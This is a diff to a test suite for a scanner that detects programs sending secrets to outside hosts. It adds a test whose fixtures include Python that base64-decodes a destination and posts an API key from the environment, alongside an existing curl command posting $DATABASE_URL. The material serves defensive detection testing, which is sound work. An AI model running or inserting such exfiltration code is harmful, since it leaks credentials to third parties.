@@ -417,6 +417,17 @@ describe('keys that leave by a program', () => {
     expect(await judged({ 'a.sh': `curl -d "$DATABASE_URL" ${host}\n` })).toEqual(['sends-secrets a.sh:1']);
   });
 
+  it('are credentials where the program decodes the address that they go to', async () => {
+    const to = `import base64, os, requests\nto = base64.b64decode("${btoa(host)}").decode()`;
+    const key = 'os.environ["STORE_API_KEY"]';
+    expect(await judged({ 'a.py': `${to}\nrequests.post(to, json={"k": ${key}})\n` })).toContain(
+      'sends-credentials a.py:3',
+    );
+    expect(await judged({ 'a.py': `${to}\nrequests.post(to, json={}, headers={"X-Key": ${key}})\n` })).not.toContain(
+      'sends-credentials a.py:3',
+    );
+  });
+
   it('are no finding to their own service', async () => {
     expect(
       await sent('requests.post("https://api.sendgrid.com/", json={"k": os.environ["SENDGRID_API_KEY"]})'),
